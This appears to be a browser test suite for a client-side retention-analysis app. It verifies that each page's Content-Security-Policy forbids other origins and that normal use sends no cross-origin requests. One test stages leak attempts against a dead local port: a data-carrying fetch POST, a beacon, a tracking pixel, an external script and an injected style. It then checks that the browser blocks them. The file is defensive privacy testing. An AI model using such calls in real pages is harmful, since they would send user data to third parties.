// "Your data never leaves the browser", enforced (issue 5): every page carries a
// Content-Security-Policy that allows no other origin, the browser really refuses what it
// forbids, and a person using the app makes no request to another origin, and no request at
// all once the page has loaded, data included.

import assert from 'node:assert/strict';
import { readFile, readdir } from 'node:fs/promises';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { DIST_DIR, SHARED_DATA_DIR, startSession } from './browser_session.js';
import { waitForApp, watchContext } from './page_watch.js';
import { readCdnowByMonth } from './cohort_steps.js';

/** A port nothing listens on; the policy must refuse it before any connection is tried. */
const OTHER_ORIGIN = 'http://127.0.0.1:9';

/** Sources a policy may name: none with a host, and no way to run text as code. */
const ALLOWED_SOURCES = new Set(["'self'", "'none'", "'wasm-unsafe-eval'", 'data:', 'blob:']);

function policyOf(html) {
  const meta = html.match(/http-equiv="Content-Security-Policy"\s+content="([^"]*)"/);
  if (!meta) return null;
  return Object.fromEntries(meta[1].split(';').map((directive) => directive.trim().split(/\s+/))
    .map(([name, ...sources]) => [name, sources]));
}

describe('Privacy', () => {
  let session;

  before(async () => {
    session = await startSession();
  });
  after(async () => {
    await session?.close();
  });

  test('Privacy.EveryPageForbidsOtherOrigins', async () => {
    const pages = (await readdir(DIST_DIR)).filter((name) => name.endsWith('.html'));
    assert.deepEqual(pages.sort(),
      ['embed-example.html', 'embed.html', 'index.html', 'retention-lab.html']);
    for (const name of pages) {
      const policy = policyOf(await readFile(join(DIST_DIR, name), 'utf8'));
      assert.ok(policy, `${name} has no Content-Security-Policy`);
      // Whatever a directive does not name falls back to nothing at all.
      assert.deepEqual(policy['default-src'], ["'none'"], name);
      assert.deepEqual(policy['base-uri'], ["'none'"], name);
      assert.deepEqual(policy['form-action'], ["'none'"], name);
      for (const [directive, sources] of Object.entries(policy)) {
        const other = sources.filter((source) => !ALLOWED_SOURCES.has(source)
          && !/^'sha256-[A-Za-z0-9+/]+=*'$/.test(source));
        assert.deepEqual(other, [], `${name}: ${directive}`);
      }
      // Connections: the page's own files over http, or the single file's data: URL.
      for (const source of policy['connect-src']) {
        assert.ok(["'self'", 'data:'].includes(source), `${name}: connect-src ${source}`);
      }
    }
  });

  test('Privacy.NoRequestLeavesTheSiteAndNoneFollowsTheData', async () => {
    const context = await session.browser.newContext({ viewport: { width: 1280, height: 900 } });
    const watch = await watchContext(context);
    const page = await context.newPage();
    const origin = new URL(session.baseUrl).origin;
    let afterLoad;
    try {
      await page.goto(session.baseUrl);
      await waitForApp(page);
      // The first visit also copies the app for offline use; once the service worker
      // controls the page that copy is complete. The browser asks for the page's icon only
      // after the load event; once the network is idle, the page has loaded all it ever will.
      await page.waitForFunction(() => navigator.serviceWorker.controller !== null);
      await page.waitForLoadState('networkidle');
      afterLoad = watch.mark();

      // Simulate: a slider moved with the keyboard, as a person would.
      const headline = await page.textContent('#sim-headline');
      await page.focus('#sim-a-range');
      for (let step = 0; step < 5; step += 1) await page.keyboard.press('ArrowRight');
      await page.waitForFunction((previous) => (
        document.getElementById('sim-headline').textContent !== previous), headline);

      // Predict: a file from disk, fitted, then every model compared.
      await page.click('a.view-tab[data-view="predict"]');
      await page.setInputFiles('#predict-file', join(SHARED_DATA_DIR, 'seed_retention.tsv'));
      await page.waitForFunction(() => document.getElementById('predict-a').textContent !== '—');
      await page.selectOption('#predict-model', 'compare');
      await page.waitForSelector('#predict-compare:not([hidden])');

      // Cohorts: an event log from disk, read in the view's worker.
      await page.click('a.view-tab[data-view="cohorts"]');
      const cohorts = await readCdnowByMonth(page);
      assert.equal(cohorts[0].size, '7,846');

      // A request made late (a lazily loaded module, a beacon on a timer) would come after
      // the steps above; give it the time to show.
      await page.waitForTimeout(1000);
    } finally {
      await context.close();
    }

    assert.deepEqual(watch.problems, [], 'the page logged errors or warnings');
    assert.deepEqual(watch.violations, [], 'the page broke its Content-Security-Policy');
    const elsewhere = watch.requests.filter(({ url }) => new URL(url).origin !== origin);
    assert.deepEqual(elsewhere, [], 'a request went to another origin');
    assert.deepEqual(watch.requestsSince(afterLoad), [], 'requests after the page had loaded');
    // The recorder saw the page load (a silent recorder would pass the checks above).
    assert.ok(watch.requests.some(({ url }) => url.endsWith('/retention-core.wasm')));
  });

  test('Privacy.EmbedsStayOnTheirSite', async () => {
    const context = await session.browser.newContext();
    const watch = await watchContext(context);
    const page = await context.newPage();
    const origin = new URL(session.baseUrl).origin;
    let afterLoad;
    try {
      await page.goto(`${session.baseUrl}embed-example.html`);
      const frame = page.frameLocator('#example-frame');
      await page.waitForFunction(() => [...document.querySelectorAll('retention-curve')]
        .every((widget) => widget.result !== null));
      await frame.locator('retention-curve').evaluate((widget) => new Promise((resolve) => {
        if (widget.result) resolve();
        else widget.addEventListener('render', resolve, { once: true });
      }));
      afterLoad = watch.mark();
      await page.fill('#example-a', '0.25');
      await page.waitForFunction(() => document.getElementById('example-retention')
        .result.parameters.a === 0.25);
      await page.waitForTimeout(500);
    } finally {
      await context.close();
    }
    assert.deepEqual(watch.problems, [], 'the page logged errors or warnings');
    assert.deepEqual(watch.violations, [], 'the page broke its Content-Security-Policy');
    assert.deepEqual(watch.requests.filter(({ url }) => new URL(url).origin !== origin), []);
    assert.deepEqual(watch.requestsSince(afterLoad), []);
  });

  test('Privacy.BrowserRefusesWhatThePolicyForbids', async () => {
    // The policy is not only written: the browser applies it. Each attempt here is what a
    // leak would look like; each must be refused before any request leaves the page.
    const context = await session.browser.newContext();
    const watch = await watchContext(context);
    const page = await context.newPage();
    let outcome;
    try {
      await page.goto(session.baseUrl);
      await waitForApp(page);
      outcome = await page.evaluate(async (other) => {
        const refused = [];
        try {
          await fetch(`${other}/collect`, { method: 'POST', body: 'period\tretention' });
        } catch {
          refused.push('fetch');
        }
        // sendBeacon only queues (it returns true either way); the request log below and the
        // connect-src violation show that the beacon never left.
        navigator.sendBeacon(`${other}/beacon`, 'data');
        const image = new Image();
        await new Promise((resolve) => {
          image.onerror = resolve;
          image.onload = resolve;
          image.src = `${other}/pixel.png`;
        });
        const script = document.createElement('script');
        await new Promise((resolve) => {
          script.onerror = resolve;
          script.onload = resolve;
          script.src = `${other}/analytics.js`;
          document.head.append(script);
        });
        const style = document.createElement('style');
        style.textContent = 'body { background: red; }';
        document.head.append(style);
        refused.push(getComputedStyle(document.body).backgroundColor === 'rgb(255, 0, 0)'
          ? 'inline style applied' : 'inline style');
        // Give the last violation reports the time to arrive.
        await new Promise((resolve) => setTimeout(resolve, 200));
        return refused;
      }, OTHER_ORIGIN);
    } finally {
      await context.close();
    }

    assert.deepEqual(outcome, ['fetch', 'inline style']);
    const directives = watch.violations.filter((text) => !text.startsWith('console'))
      .map((text) => text.split(' ')[0]);
    for (const expected of ['connect-src', 'img-src', 'script-src-elem', 'style-src-elem']) {
      assert.ok(directives.includes(expected), `no ${expected} violation in ${directives}`);
    }
    const attempts = watch.requests.filter(({ url }) => url.startsWith(OTHER_ORIGIN));
    assert.ok(attempts.length > 0, 'the recorder saw none of the attempts');
    for (const { url, failure } of attempts) {
      assert.match(failure ?? 'not refused', /csp|ERR_BLOCKED_BY_CSP/i, url);
    }
  });
});
